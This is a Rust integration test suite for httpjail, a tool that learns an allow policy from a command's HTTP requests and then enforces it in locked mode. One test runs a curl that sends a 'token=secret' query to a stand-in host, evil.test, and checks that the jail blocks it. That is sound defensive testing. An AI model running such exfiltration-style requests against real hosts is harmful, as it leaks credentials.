//! `httpjail learn` and `--locked`: what a run asked for becomes a policy, which allows the same again and nothing else.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use httpjail_lab::{JailBuilder, Lab, Outcome, Way};

use crate::support::{Expect as _, has_all, have, lab};

/// A folder that everybody may write to.
fn folder(lab: &Lab) -> PathBuf {
    let path = lab.fresh_path("project");
    fs::create_dir(&path).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o777)).unwrap();
    path
}

fn learn<'lab>(lab: &'lab Lab, way: Way, policy: &Path) -> JailBuilder<'lab> {
    lab.jail().way(way).subcommand("learn").option("-o").option(policy)
}

fn locked(lab: &Lab, way: Way, policy: &Path, script: &str) -> Outcome {
    lab.jail()
        .way(way)
        .option("--locked")
        .option(policy)
        .shell(script)
        .run()
}

const ASKS: &str = "curl -sS https://ok.test/users/1 https://ok.test/users/22 http://ok.test/?q=1 > /dev/null";

#[test]
fn what_was_learnt_allows_the_same_and_nothing_else() {
    for way in [Way::Ebpf, Way::Netns, Way::Rootless] {
        let lab = lab();
        // The lab's own files must be there for whoever starts the jail.
        fs::set_permissions(lab.dir(), fs::Permissions::from_mode(0o1777)).unwrap();
        let policy = folder(&lab).join("p.yaml");
        learn(&lab, way, &policy)
            .shell(&format!("{ASKS}; exit 3"))
            .run()
            .expect_code(3);
        let text = fs::read_to_string(&policy).unwrap();
        for pattern in [r"'^https://ok\.test/users/[0-9]+$'", r"'^http://ok\.test/\?'"] {
            assert!(text.contains(pattern), "{pattern} in {text}");
        }
        assert_eq!(text.matches("- action:").count(), 2, "{text}");
        assert!(text.contains(" by curl"), "{text}");

        locked(&lab, way, &policy, ASKS).expect_code(0);
        locked(&lab, way, &policy, &format!("{ASKS}; exit 4")).expect_code(4);
        let more = format!("{ASKS}; curl -sS 'https://evil.test/x?token=secret' > /dev/null");
        let outcome = locked(&lab, way, &policy, &more).expect_code(1);
        let outcome = outcome.expect_stderr_has("does not allow:\n  GET https://evil.test/x?…");
        assert!(!outcome.stderr.contains("secret"), "{outcome:#?}");
        assert!(lab.requests_for("evil.test").is_empty());
        locked(&lab, way, &policy, &format!("{more}; exit 5")).expect_code(5);
    }
}

#[test]
fn rules_are_added_and_what_they_deny_is_refused() {
    let lab = lab();
    let policy = folder(&lab).join("p.yaml");
    let own = "rules:\n  - {action: deny, host: evil.test}\n  - {action: allow, host: ok.test, path: /a}\n";
    fs::write(&policy, own).unwrap();
    let script =
        "for url in ok.test/a ok.test/b evil.test/; do curl -sS -o /dev/null -w '%{http_code} ' https://$url; done";
    let update = || {
        learn(&lab, Way::Ebpf, &policy)
            .option("--update")
            .shell(script)
            .run()
            .expect_code(0)
    };
    update()
        .expect_stdout("200 200 403")
        .expect_stderr_has("1 rule for 1 request added to");
    let text = fs::read_to_string(&policy).unwrap();
    assert!(
        text.starts_with(own) && text.matches(r"pattern: '^https://ok\.test/b$'").count() == 1,
        "{text}"
    );
    // Nothing new: nothing is written.
    update()
        .expect_stdout("200 200 403")
        .expect_stderr_has("allows all that was asked for");
    assert_eq!(fs::read_to_string(&policy).unwrap(), text);
}

#[test]
fn a_file_that_is_there_is_left_alone() {
    let lab = lab();
    let folder = folder(&lab);
    let policy = folder.join("p.yaml");
    fs::write(&policy, "rules: []\n").unwrap();
    let jail = || learn(&lab, Way::Ebpf, &policy);
    jail()
        .command(["echo", "ran"])
        .run()
        .expect_code(2)
        .expect_stdout("")
        .expect_stderr_has("--update");
    jail().option("--force").shell(ASKS).run().expect_code(0);
    assert!(fs::read_to_string(&policy).unwrap().contains("ok"));

    // Made by the command while it runs: it stays, and what was learned is printed.
    let taken = folder.join("taken.yaml");
    let script = format!("{ASKS}; echo mine > {}", taken.display());
    let outcome = learn(&lab, Way::Ebpf, &taken).shell(&script).run().expect_code(125);
    assert!(
        outcome.stderr.contains(r"'^https://ok\.test/users/[0-9]+$'"),
        "{outcome:#?}"
    );
    assert_eq!(fs::read_to_string(&taken).unwrap(), "mine\n");

    let link = folder.join("link.yaml");
    std::os::unix::fs::symlink("p.yaml", &link).unwrap();
    let linked = learn(&lab, Way::Ebpf, &link).option("--force").command(["echo", "ran"]);
    linked
        .run()
        .expect_code(2)
        .expect_stdout("")
        .expect_stderr_has("no regular file");
}

#[test]
fn under_sudo_the_file_is_the_callers() {
    let lab = lab();
    let policy = folder(&lab).join("p.yaml");
    learn(&lab, Way::Ebpf, &policy)
        .as_user()
        .shell(ASKS)
        .run()
        .expect_code(0);
    let owner = std::os::unix::fs::MetadataExt::uid(&fs::metadata(&policy).unwrap());
    assert_eq!(owner, httpjail_lab::USER_ID);

    let roots = lab.fresh_path("roots");
    fs::create_dir(&roots).unwrap();
    let jail = learn(&lab, Way::Ebpf, &roots.join("p.yaml")).as_user();
    jail.command(["echo", "ran"]).run().expect_code(2).expect_stdout("");
}

#[test]
fn in_weak_mode_too() {
    let lab = lab();
    let policy = folder(&lab).join("p.yaml");
    let weak = |jail: JailBuilder<'_>, script: &str| jail.option("--backend").option("weak").shell(script).run();
    weak(learn(&lab, Way::Ebpf, &policy), ASKS).expect_code(0);
    let locked = || lab.jail().option("--locked").option(&policy);
    weak(locked(), ASKS).expect_code(0);
    let more = format!("{ASKS}; curl -sS https://evil.test/x > /dev/null");
    weak(locked(), &more)
        .expect_code(1)
        .expect_stderr_has("  GET https://evil.test/x");
}

#[test]
fn the_summary_goes_where_it_is_wanted() {
    let lab = lab();
    let script = "curl -sS 'https://ok.test/x?secret=1' https://evil.test/ > /dev/null";
    let run = |option: &str, page: &Path| {
        let jail = lab
            .jail()
            .rule(r"allow: ^https://ok\.test/")
            .option("-q")
            .option(option);
        jail.env("GITHUB_STEP_SUMMARY", page).shell(script).run()
    };
    let page = lab.file("page", "before\n");
    let outcome = run("--summary", &page).expect_code(0);
    assert!(
        outcome.stderr.starts_with("httpjail: 1 request allowed, 1 denied;"),
        "{outcome:#?}"
    );
    let outcome = run("--summary=json", &page).expect_code(0);
    let object: serde_json::Value = serde_json::from_str(&outcome.stderr).unwrap();
    assert_eq!(
        object["requests"],
        serde_json::json!({ "allowed": 1, "failed": 0, "denied": 1 })
    );
    assert_eq!(object["denials"][0]["host"], "evil.test");
    assert_eq!(fs::read_to_string(&page).unwrap(), "before\n");

    let outcome = run("--summary=github", &page).expect_code(0);
    assert_eq!(outcome.stderr, "");
    let text = fs::read_to_string(&page).unwrap();
    assert!(
        text.starts_with("before\n### httpjail\n") && text.contains("`evil.test`"),
        "{text}"
    );
    assert!(!text.contains("secret"), "{text}");
    run("--summary=github", Path::new(""))
        .expect_code(2)
        .expect_stderr_has("GITHUB_STEP_SUMMARY is not set");
}

/// What was allowed and failed is told apart: at once, in the log, in the summary, and in what is learned.
#[test]
fn what_failed_is_marked() {
    let lab = lab();
    let policy = folder(&lab).join("p.yaml");
    let script = "for url in https://ok.test/fine http://ok.test:81/ http://ok.test:81/; \
                  do curl -s -o /dev/null -w '%{http_code} ' $url; done";
    let outcome = learn(&lab, Way::Ebpf, &policy)
        .option("--summary")
        .shell(script)
        .run()
        .expect_code(0)
        .expect_stdout("200 502 502");
    let text = fs::read_to_string(&policy).unwrap();
    has_all(
        &text,
        &[
            "# 1 request by curl\n",
            "# 2 requests by curl, failed: connect failed\n",
        ],
    );
    has_all(
        &outcome.stderr,
        &[
            "httpjail: failed GET http://ok.test:81/ 502 (connecting to ok.test failed: connection refused: nothing listens on that port",
            "1 request allowed, 2 failed, 0 denied",
            "1 rule for requests of which none got its answer",
        ],
    );
    let failed = outcome.events_with(&[("event", "request"), ("reason", "connect failed")]);
    assert_eq!(failed.len(), 2, "{outcome:#?}");
    for event in failed {
        assert_eq!(
            (&event["verdict"], &event["complete"]),
            (&"allow".into(), &false.into())
        );
        assert!(
            event["failure"]
                .as_str()
                .unwrap()
                .starts_with("connecting to ok.test failed")
        );
    }
}

/// A registry of packages as npm asks for it, and a project that needs one of them; `more` are further dependencies.
pub(crate) fn project(lab: &Lab, more: &str) -> PathBuf {
    let script = r#"set -eu
        mkdir -p git/npm/tarballs pack/package; chmod -R a+rX git
        for name in small other; do
            echo "{\"name\":\"$name\",\"version\":\"1.0.0\"}" > pack/package/package.json
            tar -czf git/npm/tarballs/$name-1.0.0.tgz -C pack package
            url=https://registry.test/git/npm/tarballs/$name-1.0.0.tgz
            echo "{\"name\":\"$name\",\"dist-tags\":{\"latest\":\"1.0.0\"},\"versions\":{\"1.0.0\":
                {\"name\":\"$name\",\"version\":\"1.0.0\",\"dist\":{\"tarball\":\"$url\"}}}}" > git/npm/$name
        done"#;
    let made = std::process::Command::new("sh")
        .args(["-c", script])
        .current_dir(lab.dir())
        .status();
    assert!(made.unwrap().success());
    let project = folder(lab);
    let manifest = format!(r#"{{"name":"project","version":"1.0.0","dependencies":{{"small":"^1.0.0"{more}}}}}"#);
    fs::write(project.join("package.json"), manifest).unwrap();
    project
}

#[test]
fn npm_install() {
    if !have("npm") {
        return;
    }
    let lab = lab();
    let install = |project: &Path| {
        let quiet = "--no-audit --no-fund --no-update-notifier --no-package-lock --fetch-retries 0";
        let registry = "--registry https://registry.test/git/npm/";
        let cache = lab.fresh_path("cache");
        format!(
            "cd {} && rm -rf node_modules && npm install {quiet} {registry} --cache {} && ls node_modules",
            project.display(),
            cache.display()
        )
    };
    let project_of_one = project(&lab, "");
    let policy = project_of_one.join("httpjail.yaml");
    let outcome = learn(&lab, Way::Ebpf, &policy)
        .shell(&install(&project_of_one))
        .run()
        .expect_code(0);
    assert!(outcome.stdout.ends_with("small\n"), "{outcome:#?}");
    let text = fs::read_to_string(&policy).unwrap();
    let tarball = r"pattern: '^https://registry\.test/git/npm/tarballs/small-[0-9][^/?]*\.tgz$'";
    assert!(
        text.contains(tarball) && text.matches("- action:").count() == 2,
        "{text}"
    );

    let outcome = locked(&lab, Way::Ebpf, &policy, &install(&project_of_one)).expect_code(0);
    assert!(outcome.stdout.ends_with("small\n"), "{outcome:#?}");

    let more = r#","other":"https://elsewhere.test/git/npm/tarballs/other-1.0.0.tgz""#;
    let outcome = locked(&lab, Way::Ebpf, &policy, &install(&project(&lab, more)));
    let named = "does not allow:\n  GET https://elsewhere.test/git/npm/tarballs/other-1.0.0.tgz by ";
    assert!(
        outcome.code() != Some(0) && outcome.stderr.contains(named),
        "{outcome:#?}"
    );
    assert!(lab.requests_for("elsewhere.test").is_empty());
}

#[test]
fn what_is_learnt_can_be_read_from_stdout() {
    let lab = lab();
    let jail = lab.jail().subcommand("learn").without_log().option("-o").option("-");
    let outcome = jail.command(["true"]).run().expect_code(0);
    has_all(&outcome.stdout, &["# It asked for nothing.\n", "rules: []\n"]);
    has_all(&outcome.stderr, &["0 rules for 0 requests written to standard output"]);
    assert!(!lab.dir().join("-").exists());
}
